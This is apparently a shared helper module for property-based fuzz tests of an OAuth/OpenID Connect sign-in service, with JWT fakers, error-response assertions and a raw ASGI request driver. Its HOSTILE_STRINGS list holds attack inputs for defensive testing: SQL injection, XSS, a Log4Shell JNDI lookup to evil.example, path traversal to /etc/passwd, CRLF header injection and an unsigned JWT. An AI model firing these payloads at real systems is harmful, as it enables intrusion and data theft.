"""Strategies and checks shared by the property tests."""

from __future__ import annotations

import base64
import json
import os
from urllib.parse import parse_qs, urlsplit

from hypothesis import HealthCheck, settings as hsettings, strategies as st
from sqlalchemy import func, select

from govsignin.accounts.models import User
from govsignin.store.models import EphemeralEntry


# GOVSIGNIN_PROPERTY_SCALE=5 for a deeper run; the default keeps the folder fast on 2 cores.
SCALE = float(os.environ.get("GOVSIGNIN_PROPERTY_SCALE", "0.6"))


def profile(n: int):
    """Modest runs: no deadline (the database is in the loop), no example database left in the
    working tree, and fixtures shared across examples on purpose."""
    return hsettings(
        max_examples=max(3, round(n * SCALE)),
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )


# RFC 6749 §4.1.2.1 and §5.2, RFC 6750 §3.1, OIDC Core §3.1.2.6, RFC 9101 §6.
AUTHORIZE_ERRORS = {
    "invalid_request", "unauthorized_client", "access_denied", "unsupported_response_type",
    "invalid_scope", "server_error", "temporarily_unavailable", "interaction_required",
    "login_required", "account_selection_required", "consent_required", "invalid_request_uri",
    "invalid_request_object", "request_not_supported", "request_uri_not_supported",
    "registration_not_supported", "unmet_authentication_requirements",
}
TOKEN_ERRORS = {
    "invalid_request", "invalid_client", "invalid_grant", "unauthorized_client",
    "unsupported_grant_type", "invalid_scope",
}

AUTHORIZE_PARAMS = [
    "response_type", "client_id", "redirect_uri", "scope", "state", "nonce", "vtr", "claims",
    "ui_locales", "prompt", "max_age", "code_challenge", "code_challenge_method", "channel",
    "response_mode", "request", "request_uri", "login_hint", "id_token_hint",
]

HOSTILE_STRINGS = [
    "", " ", "\t", "null", "undefined", "true", "0", "-1", "1e309", "NaN", "99999999999999999999",
    "' OR '1'='1' --", "\"; DROP TABLE users; --", "<script>alert(1)</script>", "{{7*7}}",
    "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "%00", "%0d%0aSet-Cookie:%20a=b",
    "\r\nLocation: https://evil.example", "javascript:alert(1)", "https://evil.example/",
    "//evil.example", "\u202e\u200b\ufeff", "😀" * 50, "Ā" * 300, "\x7f\x1b[31m", "[]", "{}",
    "[\"Cl.Cm\",\"Cl.Cm\"]", "{\"userinfo\":null}", "{\"id_token\":{}}", "[1,2,3]", "\"Cl\"",
    "a" * 1025, "a" * 4000, "eyJhbGciOiJub25lIn0.e30.", "a.b.c", "....",
]

# Anything Python can hold except NUL, which parse_params refuses outright (tested separately).
text_values = st.one_of(
    st.sampled_from(HOSTILE_STRINGS),
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=60),
    st.text(alphabet="[]{}\",:.0123456789abcCPlm ", max_size=40),
)


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def fake_jwt(header, payload, signature: str = "c2ln") -> str:
    enc = lambda v: b64(v if isinstance(v, bytes) else json.dumps(v).encode())  # noqa: E731
    return f"{enc(header)}.{enc(payload)}.{signature}"


# Query bytes as uvicorn lets them through: it answers a raw byte >= 0x80 (or a control byte) in
# the request target with its own 400 before the app runs (checked against the live server), so
# only %-escapes carry those bytes to the app.
wire_query = st.text(
    st.characters(min_codepoint=0x21, max_codepoint=0x7E, blacklist_characters="#"), max_size=300
).map(str.encode)

json_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(-(2**70), 2**70), st.floats(allow_nan=False),
    st.text(max_size=20),
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
jose_headers = st.one_of(
    st.fixed_dictionaries(
        {"alg": st.sampled_from(["ES256", "RS256", "PS256", "HS256", "none", "", None])},
        optional={"kid": json_values, "typ": json_values, "crit": json_values, "b64": json_values},
    ),
    json_values,
)


def fake_jwts(claims=None):
    """Compact JWS-shaped garbage: JSON (or not) headers and payloads, bad signatures."""
    payloads = claims if claims is not None else st.one_of(
        json_values, st.dictionaries(st.sampled_from(["iss", "sub", "aud", "exp", "iat", "nbf", "jti"]), json_values)
    )
    structured = st.builds(fake_jwt, jose_headers, payloads, st.sampled_from(["", "c2ln", "!!!", "a" * 86]))
    return st.one_of(structured, st.sampled_from(HOSTILE_STRINGS), st.text(alphabet="abcXYZ-_.=", max_size=80))


def location_parts(response) -> tuple[str, dict]:
    """(the location before its query or fragment, the parameters in it)."""
    location = response.headers["location"]
    split = urlsplit(location)
    base = location.split("?", 1)[0].split("#", 1)[0]
    raw = split.fragment if split.fragment and not split.query else split.query
    return base, {k: v for k, v in parse_qs(raw, keep_blank_values=True).items()}


def assert_html_error(response, status: int = 400):
    assert response.status_code == status, (response.status_code, response.headers, response.text[:300])
    assert "location" not in response.headers
    assert response.headers["content-type"].startswith("text/html")
    assert "Traceback" not in response.text


def assert_token_error(response, errors=TOKEN_ERRORS):
    """400, or 401 for an invalid_client whose assertion names no registered client (One Login)."""
    unknown_client = response.status_code == 401 and response.json().get("error") == "invalid_client"
    assert response.status_code == 400 or unknown_client, (response.status_code, response.text[:300])
    assert response.headers["cache-control"] == "no-store"
    assert response.headers["content-type"].startswith("application/json")
    body = response.json()
    assert set(body) <= {"error", "error_description"}, body
    assert body["error"] in errors, body
    assert isinstance(body.get("error_description", ""), str)
    return body


async def live_keys(services) -> set[str]:
    """Every unexpired key in the ephemeral store (the database one: sessions, journeys, codes,
    tokens, counters). Expiry and purges only remove keys, so new keys are what a request wrote."""
    import time

    t = EphemeralEntry.__table__
    async with services.engine.connect() as conn:
        rows = await conn.execute(select(t.c.key).where(t.c.expires_at > time.time()))
        return {r[0] for r in rows}


async def written_since(services, before: set[str]) -> set[str]:
    """Keys written since `before` was taken. Not `live_keys() == before`: a key that merely
    expired in between (a slow machine, another test's short-lived counter) wrote nothing."""
    return await live_keys(services) - before


async def user_count(services) -> int:
    async with services.engine.connect() as conn:
        return (await conn.execute(select(func.count()).select_from(User.__table__))).scalar_one()


class RawResponse:
    def __init__(self, status: int, headers, body: bytes, exc: BaseException | None):
        import httpx

        self.status_code = status
        self.headers = httpx.Headers(headers)
        self.content = body
        self.text = body.decode("utf-8", "replace")
        self.exception = exc

    def json(self):
        return json.loads(self.content)


async def raw_request(app, method: str, path: str, query: bytes = b"", headers=(), body: bytes = b"") -> RawResponse:
    """Drive the ASGI app with exactly these bytes (httpx would refuse or re-encode some).
    An unhandled exception is reported as the 500 the server would send."""
    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method,
        "scheme": "http", "path": path, "raw_path": path.encode(), "query_string": query, "root_path": "",
        "headers": [(b"host", b"testserver"), *[(k.lower(), v) for k, v in headers]],
        "client": ("127.0.0.1", 1234), "server": ("testserver", 80),
    }
    sent = False

    async def receive():
        nonlocal sent
        if sent:
            return {"type": "http.disconnect"}
        sent = True
        return {"type": "http.request", "body": body, "more_body": False}

    status, out_headers, chunks = None, [], []

    async def send(message):
        nonlocal status, out_headers
        if message["type"] == "http.response.start":
            status, out_headers = message["status"], [(k.decode("latin-1"), v.decode("latin-1")) for k, v in message["headers"]]
        elif message["type"] == "http.response.body":
            chunks.append(message.get("body", b""))

    exc = None
    try:
        await app(scope, receive, send)
    except Exception as e:  # the server would have answered 500
        exc = e
    return RawResponse(status or 500, out_headers, b"".join(chunks), exc)
